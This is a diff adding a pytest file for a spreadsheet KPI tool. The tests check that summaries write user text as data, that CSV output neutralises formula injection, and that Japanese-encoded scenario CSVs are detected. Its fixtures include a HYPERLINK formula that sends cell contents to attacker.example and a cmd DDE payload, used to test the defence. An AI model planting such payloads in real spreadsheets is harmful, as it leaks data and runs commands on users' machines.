@@ -1,0 +1,141 @@
+"""Summaries hold data only (no formula from a user's text), CSVs with a BOM; scenario CSVs in any Japanese encoding (issue 10)."""
+
+from __future__ import annotations
+
+import csv
+import io
+import zipfile
+from pathlib import Path
+
+import openpyxl
+import pandas as pd
+import pytest
+from kpitree.recalculation import ScenarioError, recalc
+from kpitree.recalculation.scenarios import typed_value
+from kpitree.recalculation.summary import csv_cell, decode_text, read_table, write_summary
+from kpitree.workbook_templates import template_path
+
+LEAK = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
+DDE = "=cmd|' /C calc'!A0"
+
+
+def hostile_book(path: Path) -> Path:
+    """A workbook whose named cells hold text a spreadsheet would run, a negative number and a formula."""
+    wb = openpyxl.Workbook()
+    ws = wb.active
+    ws.title = "S"
+    for ref, text in (("A1", LEAK), ("A4", DDE), ("A5", "@SUM(1,2)"), ("A6", "+1+2"), ("A7", "-2+3"), ("A8", "\tTAB"),
+                      ("A9", "-5")):
+        ws[ref] = text
+        ws[ref].data_type = "s"  # stored as text, as a user typing '=... gets
+    ws["A2"] = -3.5
+    ws["A3"] = "=A2*2"
+    for name, ref in (("leak", "A1"), ("neg", "A2"), ("calc", "A3"), ("dde", "A4"), ("at", "A5"), ("plus", "A6"),
+                      ("minus", "A7"), ("tab", "A8"), ("numtext", "A9")):
+        wb.defined_names[name] = openpyxl.workbook.defined_name.DefinedName(name, attr_text=f"S!${ref[0]}${ref[1:]}")
+    wb.save(path)
+    return path
+
+
+def test_xlsx_summary_writes_text_as_text_never_as_a_formula(tmp_path: Path) -> None:
+    book = hostile_book(tmp_path / "book.xlsx")
+    recalc([book], summary=tmp_path / "s.xlsx", report=False)
+    with zipfile.ZipFile(tmp_path / "s.xlsx") as z:
+        sheet = z.read("xl/worksheets/sheet1.xml")
+        assert b"<f>" not in sheet and b"<f " not in sheet, "no formula in the summary"
+        assert not any(n.startswith("xl/worksheets/_rels") for n in z.namelist()), "no hyperlink relationships"
+    wb = openpyxl.load_workbook(tmp_path / "s.xlsx")
+    ws = wb.active
+    header = [c.value for c in ws[1]]
+    row = {h: c for h, c in zip(header, ws[2])}
+    assert row["leak"].value == LEAK and row["leak"].data_type == "s"
+    assert row["dde"].value == DDE and row["dde"].data_type == "s"
+    assert row["neg"].value == -3.5 and row["calc"].value == -7
+
+
+def test_csv_summary_neutralises_formula_starts_and_keeps_numbers(tmp_path: Path) -> None:
+    book = hostile_book(tmp_path / "book.xlsx")
+    recalc([book], summary=tmp_path / "s.csv", report=False)
+    raw = (tmp_path / "s.csv").read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM for Japanese Excel"
+    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
+    (row,) = rows
+    assert row["leak"] == "'" + LEAK and row["dde"] == "'" + DDE
+    assert row["at"] == "'@SUM(1,2)" and row["plus"] == "'+1+2" and row["minus"] == "'-2+3" and row["tab"] == "'\tTAB"
+    assert row["neg"] == "-3.5" and row["calc"] == "-7.0", "genuine negative numbers stay numbers"
+    assert row["numtext"] == "-5", "a text that is only a number is no formula"
+
+
+def test_csv_without_bom_on_request(tmp_path: Path) -> None:
+    frame = pd.DataFrame({"file": ["a"], "x": [1.5]})
+    write_summary(frame, tmp_path / "s.csv", bom=False)
+    assert (tmp_path / "s.csv").read_bytes().startswith(b"file,x")
+
+
+@pytest.mark.parametrize("text,expected", [
+    ("=1+1", "'=1+1"), ("+SUM(A1)", "'+SUM(A1)"), ("-A1", "'-A1"), ("@x", "'@x"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
+    ("-12.5", "-12.5"), ("+3", "+3"), ("-1e5", "-1e5"), ("a=b", "a=b"), ("", ""), ("チーム=A", "チーム=A"),
+])
+def test_csv_cell_rule(text: str, expected: str) -> None:
+    assert csv_cell(text) == expected
+    assert csv_cell(-3.0) == -3.0
+
+
+# --- scenario tables as Japanese Excel saves them ----------------------------------------------------
+
+TABLE = "plan_win_rate,plan_connect_rate,memo\n0.25,0.25,東京チーム\n0.30,0.28,大阪①\n"
+
+
+@pytest.mark.parametrize("encoding,bom,expected", [
+    ("utf-8", b"", "utf-8"), ("utf-8", b"\xef\xbb\xbf", "utf-8-sig"), ("utf-16", b"", "utf-16"),
+    ("utf-16-le", b"", "utf-16"), ("cp932", b"", "cp932"),
+])
+def test_scenario_csv_encodings_are_detected(tmp_path: Path, encoding: str, bom: bytes, expected: str) -> None:
+    path = tmp_path / "what_if.csv"
+    path.write_bytes(bom + TABLE.encode(encoding))
+    table = read_table(path)
+    assert table.attrs["encoding"] == expected
+    assert list(table.columns) == ["plan_win_rate", "plan_connect_rate", "memo"]
+    # cells come in as written; the scenario runner reads each one as Excel reads a typed value
+    assert list(table["plan_win_rate"]) == ["0.25", "0.30"] and list(table["memo"]) == ["東京チーム", "大阪①"]
+    assert [typed_value(v) for v in table["plan_win_rate"]] == [0.25, 0.30]
+
+
+def test_the_cli_says_which_encoding_was_used(cli, tmp_path: Path) -> None:
+    sjis = tmp_path / "sjis.csv"
+    sjis.write_bytes("plan_win_rate,plan_connect_rate\n0.25,0.25\n0.3,２５％\n".encode("cp932"))
+    result = cli("recalc", str(template_path("ja")), "--scenarios", str(sjis), "--summary", str(tmp_path / "o.csv"))
+    assert result.returncode == 0, result.stderr
+    assert "read as cp932 (Shift_JIS" in result.stderr
+    out = pd.read_csv(tmp_path / "o.csv", encoding="utf-8-sig")
+    assert list(out["plan_win_rate"]) == [0.25, 0.3]
+    utf8 = tmp_path / "utf8.csv"
+    utf8.write_bytes(b"\xef\xbb\xbfplan_win_rate\n0.25\n")
+    result = cli("recalc", str(template_path("ja")), "--scenarios", str(utf8), "--summary", str(tmp_path / "o2.csv"))
+    assert result.returncode == 0 and "read as" not in result.stderr
+
+
+def test_undecodable_bytes_are_one_clear_error() -> None:
+    with pytest.raises(ScenarioError, match="cannot tell the text encoding"):
+        decode_text(b"plan_win_rate\n\x81\x00\xff\xfe\x80\n" * 3 + b"\xff", "x.csv")
+
+
+@pytest.mark.parametrize("header,needle", [
+    ("plan_win_rate,plan_win_rate", "column 'plan_win_rate' appears twice (columns 1 and 2"),
+    ("plan_win_rate, PLAN_WIN_RATE ", "'plan_win_rate' and ' PLAN_WIN_RATE '"),
+])
+def test_a_column_named_twice_is_named_as_written(tmp_path: Path, header: str, needle: str) -> None:
+    path = tmp_path / "dup.csv"
+    path.write_text(f"{header}\n0.2,0.3\n", encoding="utf-8")
+    with pytest.raises(ScenarioError) as info:
+        recalc(template_path("ja"), scenarios=path)
+    assert needle in str(info.value) and ".1" not in str(info.value)
+
+
+def test_a_duplicated_column_in_an_xlsx_table_too(tmp_path: Path) -> None:
+    wb = openpyxl.Workbook()
+    wb.active.append(["plan_win_rate", "plan_win_rate"])
+    wb.active.append([0.2, 0.3])
+    wb.save(tmp_path / "dup.xlsx")
+    with pytest.raises(ScenarioError, match="appears twice"):
+        read_table(tmp_path / "dup.xlsx")
